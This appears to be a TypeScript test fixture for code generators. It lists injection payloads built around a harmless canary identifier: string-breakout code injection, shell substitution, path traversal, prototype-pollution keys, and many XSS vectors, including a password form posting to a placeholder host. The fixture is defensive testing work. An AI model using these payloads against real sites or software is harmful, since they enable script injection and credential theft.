// Strings that would be code in one of the languages that the generators write, if they were inserted without escapes.

/** An identifier that no generated code contains, unless a string of the contract became code. */
export const CANARY = "canary7f3a";

/** Content of a file named like the canary. A sample that sends it reads a file that the contract chose. */
export const SECRET = "secret-of-canary7f3a";

export const PAYLOADS: readonly string[] = [
  `x"; ${CANARY}(); //`,
  `x'; ${CANARY}(); //`,
  `x\`; ${CANARY}(); //`,
  `\${${CANARY}()}`,
  `#{${CANARY}()}`,
  `*/ ${CANARY}(); /*`,
  `x\n${CANARY}();\n`,
  `x\r${CANARY}();\r`,
  `x\u2028${CANARY}();\u2028`,
  `x\u2029${CANARY}();\u2029`,
  `x\u0085${CANARY}();\u0085`,
  `\\"; ${CANARY}(); //`,
  `\\u0022; ${CANARY}(); //`,
  `$(${CANARY})`,
  `\`${CANARY}\``,
  `'"'"'; ${CANARY}; '`,
  `\u0001'; ${CANARY}; #`,
  `\\'; ${CANARY}; #`,
  `text/plain;headers=@${CANARY}`,
  `@${CANARY}`,
  `<${CANARY}`,
  `"""\n${CANARY}()\n"""`,
  `'''\n${CANARY}()\n'''`,
  `JSON\n${CANARY}()\nJSON;`,
  `?><?php ${CANARY}(); ?>`,
  `</script><script>${CANARY}()</script>`,
  `[x](javascript:${CANARY}())`,
  `::error::${CANARY}`,
  `\u001b]0;${CANARY}\u0007`,
  `../../../${CANARY}`,
  `/etc/${CANARY}`,
  `C:\\${CANARY}`,
  `{${CANARY}}`,
  `%00${CANARY}%0a`,
  `\u202e${CANARY}()\u2066`,
  `\ud800${CANARY}`,
  `__proto__`,
  `constructor`,
  "",
];

const ELSEWHERE = `https://${CANARY}.invalid/`;

/** Strings that would be elements, attributes or links of a page, if they were inserted without escapes. */
export const PAGE_PAYLOADS: readonly string[] = [
  `<script>${CANARY}()</script>`,
  `</script><script>${CANARY}()</script>`,
  `<img src=x onerror=${CANARY}()>`,
  `<svg><animate onbegin=${CANARY}() attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${CANARY}()"><text y="20">x</text></a></svg>`,
  `<details open ontoggle=${CANARY}()>x</details>`,
  `<iframe srcdoc="<script>parent.${CANARY}()</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}">`,
  `<style>@import "${ELSEWHERE}"; * { display: none }</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><input name="password"><button>x</button></form>`,
  `<object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}">`,
  `<a href="javascript:${CANARY}()">x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${CANARY}()>`,
  `<noscript><p title="</noscript><img src=x onerror=${CANARY}()>">`,
  `"><img src=x onerror=${CANARY}()>`,
  `'><img src=x onerror=${CANARY}()>`,
  `" autofocus onfocus="${CANARY}()" x="`,
  `' onmouseover='${CANARY}()' x='`,
  `--><script>${CANARY}()</script>`,
  `]]><script>${CANARY}()</script>`,
  `</title><script>${CANARY}()</script>`,
  `</textarea><script>${CANARY}()</script>`,
  `[x](javascript:${CANARY}())`,
  `[x](<java\tscript:${CANARY}()>)`,
  `<javascript:${CANARY}()>`,
  `![x](x"onerror="${CANARY}())`,
  `[x]: javascript:${CANARY}()\n\n[x]`,
  `javascript:${CANARY}()`,
  `data:text/html,<script>${CANARY}()</script>`,
  `//${CANARY}.invalid/`,
  `{{constructor.constructor('${CANARY}()')()}}`,
  `{${CANARY}()}`,
  `\`\`\`html\n</code></pre><script>${CANARY}()</script>\n\`\`\``,
  `<!--<script>${CANARY}()`,
];

/** Values of other types than a contract has at a location. */
export const WRONG_VALUES: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  [],
  {},
  [[]],
  "x",
  { $ref: "#" },
  { "": null },
  // It cannot be converted to a string.
  { toString: 1 },
];
